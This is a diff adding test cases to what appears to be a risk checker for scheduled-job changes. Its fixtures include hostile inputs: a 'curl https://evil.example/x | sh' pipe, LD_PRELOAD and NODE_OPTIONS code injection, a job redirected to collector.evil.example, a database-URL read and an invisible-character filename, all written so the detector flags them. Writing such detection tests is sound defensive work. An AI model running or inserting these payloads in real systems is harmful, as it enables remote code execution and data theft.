@@ -72,6 +72,16 @@ const CASES = [
   { code: 'CF504', level: 'MEDIUM', input: change({}, { job: { type: 'command', command: ['python3', '-u', 'jobs/report.py'], cwd: '.', env: {} } }), message: 'job target changed: node jobs/daily-report.js → python3 jobs/report.py' },
   { code: 'CF504', level: 'MEDIUM', input: change({ job: http() }, { job: http({ url: 'https://api.example.com/v2/report?key=abc' }) }), message: 'job target changed: POST https://api.example.com/report → POST https://api.example.com/v2/report?…' },
   { code: 'CF505', level: 'LOW', input: change(null, { job: http(), retry: { maxAttempts: 3, backoff: 'exponential', initialDelayMs: 30_000, maxDelayMs: 600_000 } }), message: 'POST is retried up to 3 attempts: a retry after a timeout may repeat the side effect' },
+  { code: 'CF506', level: 'MEDIUM', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js', '--date', '{{businessDate}}', '--all'], cwd: '.', env: { MODE: 'full' } } }), message: 'job changed: job.command, job.env.MODE' },
+  { code: 'CF507', level: 'HIGH', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js'], cwd: '.', env: { LD_PRELOAD: '/tmp/x.so' } } }), message: 'job.env.LD_PRELOAD sets loader variable LD_PRELOAD="/tmp/x.so": it changes which code runs' },
+  { code: 'CF507', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['env', 'NODE_OPTIONS=--require=/tmp/x.js', 'node', 'jobs/a.js'], cwd: '.', env: {} } }), message: 'the command sets loader variable NODE_OPTIONS="--require=/tmp/x.js"' },
+  { code: 'CF508', level: 'HIGH', input: change({}, { job: { type: 'command', command: ['node', '--import=data:text/javascript,import("child_process")', 'jobs/daily-report.js'], cwd: '.', env: {} } }), message: 'node --import loads or evaluates code: "data:text/javascript,import(\\"child_process\\")"' },
+  { code: 'CF508', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['python3', '-c', 'print(1)'], cwd: '.', env: {} } }), message: 'python3 -c loads or evaluates code: "print(1)"' },
+  { code: 'CF509', level: 'HIGH', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js'], cwd: 'jobs/../../x', env: {} } }), message: 'cwd "jobs/../../x" is outside the repository: the job runs files no review covers' },
+  { code: 'CF510', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['sh', '-c', 'curl -s https://evil.example/x | sh'], cwd: '.', env: {} } }), message: 'sh fetches or decodes code and executes it: "curl -s https://evil.example/x | sh"' },
+  { code: 'CF511', level: 'HIGH', input: change({ job: http() }, { job: http({ url: 'https://collector.evil.example/report' }) }), message: 'the http job now calls host "collector.evil.example" (was host "api.example.com"): "https://collector.evil.example/report"' },
+  { code: 'CF512', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['node', 'jobs/a.js'], cwd: '.', env: { DB: { fromEnv: 'DATABASE_URL' } } } }), message: "job.env.DB reads DATABASE_URL, cronform's own configuration: the job would get the runner's database or settings" },
+  { code: 'CF513', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['node', 'jobs/daily\u200b-report.js'], cwd: '.', env: {} } }), message: 'job.command[1] contains control, bidi or invisible characters: "jobs/daily\\u200B-report.js"' },
 ] as const;
 
 describe('assessChange: one finding per code', () => {
@@ -186,11 +196,13 @@ describe('headlineFor', () => {
   it.each([
     { action: 'create', input: change(null, {}), headline: 'new: 1 run/day (peak 1), next 2026-06-02 19:30 Asia/Seoul' },
     { action: 'create', input: change(null, { cron: '30 2 * * *', timezone: 'America/New_York' }), headline: 'new: 1 run/day (peak 1), next 2026-06-02 02:30 America/New_York; DST: 1 transition in 12 months (gap shift)' },
-    { action: 'update', input: change({ cron: '30 * * * *' }, { cron: '0 * * * * *' }), headline: 'runs/day 24 → 1,440; next slot 12:30Z → 12:01Z' },
-    { action: 'update', input: change({}, { timeoutMs: HOUR }), headline: 'changed timeoutMs; timing unchanged' },
+    { action: 'update', input: change({ cron: '30 * * * *' }, { cron: '0 * * * * *' }), headline: 'runs/day 24 → 1,440; next slot 12:30Z → 12:01Z; changed cron' },
+    { action: 'update', input: change({ cron: '30 * * * *' }, { cron: '0 * * * * *', description: 'x', timeoutMs: HOUR, job: { type: 'command', command: ['node', 'jobs/daily-report.js', '--fast'], cwd: '.', env: {} } }), headline: 'runs/day 24 → 1,440; next slot 12:30Z → 12:01Z; changed job.command, cron, timeout, description' },
+    { action: 'update', input: change({}, { timeoutMs: HOUR }), headline: 'changed timeout; timing unchanged' },
     { action: 'archive', input: change({}, null, { history: { lastRunAt: '2026-05-31T10:30:00Z', runsLast30Days: 29 } }), headline: 'archive: last run 2026-05-31T10:30Z, 29 runs in 30 days will stop' },
     { action: 'rename', input: change({ name: 'daily-summary' }, {}, { action: 'rename' }), headline: 'renamed from daily-summary (history kept)' },
-    { action: 'restore', input: change({ enabled: false }, {}, { action: 'restore' }), headline: 'restore: 1 run/day (peak 1), next 2026-06-02 19:30 Asia/Seoul' },
+    { action: 'restore', input: change({ enabled: false }, {}, { action: 'restore' }), headline: 'restore: 1 run/day (peak 1), next 2026-06-02 19:30 Asia/Seoul; changed enabled' },
+    { action: 'restore', input: change({}, {}, { action: 'restore' }), headline: 'restore: 1 run/day (peak 1), next 2026-06-02 19:30 Asia/Seoul' },
   ])('$action: $headline', ({ input, headline }) => {
     expect(headlineFor(input)).toBe(headline);
   });
@@ -220,6 +232,14 @@ it('RiskCodes is the table of every code, and each has a test case', () => {
       "CF503",
       "CF504",
       "CF505",
+      "CF506",
+      "CF507",
+      "CF508",
+      "CF509",
+      "CF510",
+      "CF511",
+      "CF512",
+      "CF513",
     ]
   `);
 });
